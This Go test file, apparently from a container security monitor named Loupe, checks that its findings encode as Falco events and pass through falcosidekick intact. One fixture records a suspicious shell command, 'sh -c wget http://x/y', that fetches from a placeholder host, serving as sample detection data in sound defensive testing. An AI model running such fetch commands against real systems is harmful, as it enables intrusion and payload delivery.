package output

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"go/build"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	loupev1 "github.com/loupe-dev/loupe/api/v1"
)

// receivedEvent is falcosidekick's types.FalcoPayload as its JSON decodes.
type receivedEvent struct {
	UUID         string         `json:"uuid"`
	Output       string         `json:"output"`
	Priority     string         `json:"priority"`
	Rule         string         `json:"rule"`
	Time         time.Time      `json:"time"`
	OutputFields map[string]any `json:"output_fields"`
	Source       string         `json:"source"`
	Tags         []string       `json:"tags"`
	Hostname     string         `json:"hostname"`
}

func decodeEvent(t *testing.T, b []byte) receivedEvent {
	t.Helper()
	var ev receivedEvent
	d := json.NewDecoder(bytes.NewReader(b))
	d.UseNumber() // as falcosidekick decodes
	if err := d.Decode(&ev); err != nil {
		t.Fatalf("not a Falco event: %v: %s", err, b)
	}
	return ev
}

func (r *receiver) falcoEvents() []receivedEvent {
	r.mu.Lock()
	bodies := append([][]byte(nil), r.bodies...)
	r.mu.Unlock()
	var out []receivedEvent
	for _, b := range bodies {
		out = append(out, decodeEvent(r.t, b))
	}
	return out
}

// The Falco event carries what falcosidekick requires (priority, rule,
// time, output fields) under Falco's field names, priorities mapped from
// severities like syslog's.
func TestFalcoEventEncoding(t *testing.T) {
	for sev, want := range map[loupev1.Severity]string{
		loupev1.Severity_SEVERITY_CRITICAL: "Critical", loupev1.Severity_SEVERITY_HIGH: "Error",
		loupev1.Severity_SEVERITY_MEDIUM: "Warning", loupev1.Severity_SEVERITY_LOW: "Notice",
		loupev1.Severity_SEVERITY_INFO: "Informational",
	} {
		f := finding(sev, loupev1.Kind_KIND_SHELL_EXEC, "payments")
		f.Container.Pod = "api\n]\"\\"
		b, err := falcoJSON(f)
		if err != nil {
			t.Fatal(err)
		}
		ev := decodeEvent(t, b)
		if ev.Priority != want || ev.Rule != f.GetRule() || !ev.Time.Equal(f.GetTime().AsTime()) ||
			ev.Source != "loupe" || ev.Hostname != "node-1" || ev.UUID != f.GetId() {
			t.Errorf("%s: event %+v", sev, ev)
		}
		for k, v := range map[string]string{
			"k8s.ns.name": "payments", "k8s.pod.name": "api\n]\"\\", "container.id": "c0ffee",
			"container.image.repository": "registry.example/payments/api", "container.image.tag": "1.4.2",
			"proc.cmdline": "sh -c wget http://x/y", "proc.name": "sh", "proc.pname": "java",
			"user.name": "root", "evt.type": "execve", "loupe.kind": "SHELL_EXEC",
		} {
			if ev.OutputFields[k] != v {
				t.Errorf("output_fields[%s] = %#v, want %q", k, ev.OutputFields[k], v)
			}
		}
		if strings.ContainsAny(ev.Output, "\n\r") || !strings.Contains(ev.Output, ": "+want+" ") {
			t.Errorf("output %q", ev.Output)
		}
	}
}

// falcosidekickBinary finds falcosidekick: $LOUPE_FALCOSIDEKICK, then PATH,
// then $GOPATH/bin (where scripts/falcosidekick.sh installs it).
func falcosidekickBinary(t *testing.T) string {
	if p := os.Getenv("LOUPE_FALCOSIDEKICK"); p != "" {
		return p
	}
	if p, err := exec.LookPath("falcosidekick"); err == nil {
		return p
	}
	p := filepath.Join(build.Default.GOPATH, "bin", "falcosidekick")
	if _, err := os.Stat(p); err == nil {
		return p
	}
	msg := "falcosidekick not installed (scripts/falcosidekick.sh builds it from a source checkout)"
	if os.Getenv("LOUPE_REQUIRE_FALCOSIDEKICK") == "1" {
		t.Fatal(msg)
	}
	t.Skip(msg)
	return ""
}

// The real falcosidekick accepts Loupe's events on its root endpoint and
// re-emits them through its webhook output with the same rule, priority
// and output fields: its other outputs see what Falco would send them.
func TestFalcosidekickReemitsEvent(t *testing.T) {
	bin := falcosidekickBinary(t)
	sink := newReceiver(t, "127.0.0.1:0")
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	port := l.Addr().(*net.TCPAddr).Port
	l.Close()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	cmd := exec.CommandContext(ctx, bin)
	cmd.Env = append(os.Environ(), "LISTENADDRESS=127.0.0.1", fmt.Sprintf("LISTENPORT=%d", port),
		"WEBHOOK_ADDRESS=http://"+sink.addr+"/falco", "WEBHOOK_MINIMUMPRIORITY=debug")
	var logs bytes.Buffer
	cmd.Stdout, cmd.Stderr = &logs, &logs
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		cancel()
		cmd.Wait()
		if t.Failed() {
			t.Logf("falcosidekick output:\n%s", logs.String())
		}
	}()
	url := fmt.Sprintf("http://127.0.0.1:%d", port)
	eventually(t, "falcosidekick /ping", func() bool {
		resp, err := http.Get(url + "/ping")
		if err != nil {
			return false
		}
		resp.Body.Close()
		return resp.StatusCode == http.StatusOK
	})

	o, reg := open(t, t.TempDir(), "falcosidekick="+url+"/,min-severity=medium")
	defer o.Close()
	run(t, o)
	f := hostile()
	o.Enqueue([]*loupev1.Finding{f})
	eventually(t, "the event re-emitted by falcosidekick", func() bool { return sink.count() == 1 })
	if v := metric(t, reg, "loupe_collector_output_delivered_total", "output", "falcosidekick"); v != 1 {
		t.Errorf("delivered_total = %v", v)
	}

	sent, err := falcoJSON(f)
	if err != nil {
		t.Fatal(err)
	}
	want, got := decodeEvent(t, sent), sink.falcoEvents()[0]
	sink.mu.Lock()
	t.Logf("re-emitted by falcosidekick: %s", sink.bodies[0])
	sink.mu.Unlock()
	if got.Rule != want.Rule || got.Priority != want.Priority || got.Priority != "Critical" ||
		!got.Time.Equal(want.Time) || got.Source != "loupe" || got.Hostname != f.GetNode() {
		t.Errorf("re-emitted %+v\nsent %+v", got, want)
	}
	if !reflect.DeepEqual(got.OutputFields, want.OutputFields) {
		t.Errorf("output_fields re-emitted %v\nsent %v", got.OutputFields, want.OutputFields)
	}
	if got.Output != want.Output {
		t.Errorf("output re-emitted %q\nsent %q", got.Output, want.Output)
	}
}
